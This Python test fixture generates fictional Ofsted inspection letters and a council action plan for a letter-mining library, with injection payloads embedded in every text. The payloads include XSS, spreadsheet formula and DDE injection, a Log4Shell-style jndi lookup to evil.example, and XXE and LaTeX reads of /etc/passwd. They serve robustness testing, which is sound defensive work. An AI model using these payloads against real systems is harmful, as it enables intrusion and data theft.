"""Letters in whose every text something stands that a careless program would run."""

from __future__ import annotations

import re
from itertools import cycle, islice
from pathlib import Path

import ofstedmine as om

# what is for a web page, Markdown, a spreadsheet, Word, a template engine, a terminal, a reader's eye
PAYLOADS = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "</title></style><svg onload=alert(1)>",
    "[here](javascript:alert(1))",
    "![p](http://evil.example/p.png)",
    "<http://evil.example/a>",
    '=HYPERLINK("http://evil.example","here")',
    "@SUM(1+1)",
    "+cmd|' /C calc'!A0",
    "-2+3",
    "\t=1+1",
    '{ HYPERLINK "http://evil.example" }',
    "INCLUDETEXT /etc/passwd",
    "DDEAUTO cmd.exe /k calc",
    "</w:t><w:instrText>DATE</w:instrText>",
    "{{ 7*7 }} {% raw %} ${jndi:ldap://evil.example}",
    "{0.__class__} %s %(x)s",
    "&xxe; ]]> <!ENTITY x SYSTEM 'file:///etc/passwd'>",
    "\x1b[2J\x1b]0;gone\x07",
    "\x9b31m",
    "\u202egpj.exe\u2066\u2069",
    "$x^2$ \\input{/etc/passwd}",
)
UNSEEN = "".join(map(chr, (*range(9), 11, 12, *range(14, 32), *range(127, 160), 0x61C, *range(0x202A, 0x202F),
                           *range(0x2066, 0x206A))))  # fmt: skip

_VISIT = """Focused visit to {t} Fernley children’s services

Dear Ms {p} Marsh

This letter summarises the findings of the focused visit to Fernley on 4 and 5 May 2021. It was
published on 6 June 2021.
The inspectors were {p} and Edda {p} Marsh.

What needs to improve in this area of social work practice

• {p} The timeliness of visits to children in care {p}
• The quality of {p} supervision of social workers.

Main findings {p}

1. {p} Visits to children in care are not timely. {p} Supervision is weak. Workers said “{p}”.

2. Plans for children in care are clear {p}. {p}
"""
_LATER = """Inspection of {t} Fernley local authority children’s services

Inspection dates: 8 May 2022 to 19 May 2022
Lead inspector: Edda {p} Marsh

Judgement\tGrade
The impact of leaders on social work practice with children and families\tGood {p}

What needs to improve?

• {p} The supervision of social workers {p}

The experiences and progress of children in care {p}: good

1. {p} Visits to children in care are now timely since the last visit. {p} Children in care see workers {p}.

2. {p} Supervision of social workers remains too variable {p}. {p}
"""
_COUNCIL = """# Fernley Council: response to the focused visit {p}

Report to the {p} board, 3 September 2021. Written by the Director of Children’s Services.

1. Ofsted found that “{p} Visits to children in care are not timely” and “Plans for children in care are {p}”.

## Action plan

| Recommendation | Action | Owner | Due | RAG |
|---|---|---|---|---|
| The timeliness of visits to children {p} | {p} Visit each child. | {p} Head {p} | September 2021 | Green {p} |
| The quality of {p} supervision of social workers. | Train {p} managers. | {p} | {p} | Red |
"""


STARTS = range(0, len(PAYLOADS), 4)  # letters so begun have each payload in a title, and at the beginning of a text


def letters(folder: Path, start: int) -> tuple[Path, Path, Path]:
    """A visit's letter, a later one, and the council's answer: the payloads in turn in each of their texts."""
    folder.mkdir(parents=True, exist_ok=True)
    turn = islice(cycle(PAYLOADS), start, None)
    out = []
    for name, text in (("visit.txt", _VISIT), ("later.txt", _LATER), ("council.md", _COUNCIL)):
        text = text.replace("{t}", " ".join(PAYLOADS[start : start + 4]))  # one authority, in whatever way it is named
        path = folder / name
        in_row = re.compile(r"^\|.*", re.M)
        text = in_row.sub(lambda row: re.sub("{p}", lambda _: next(turn).replace("|", "\\|"), row[0]), text)
        path.write_bytes(re.sub("{p}", lambda _: next(turn), text).encode())
        out.append(path)
    return out[0], out[1], out[2]


def followed(folder: Path, start: int) -> om.FollowUp:
    """What became of the visit's recommendations."""
    visit, later, council = map(om.mine, letters(folder, start))
    return om.follow_up(visit, later, response=council)
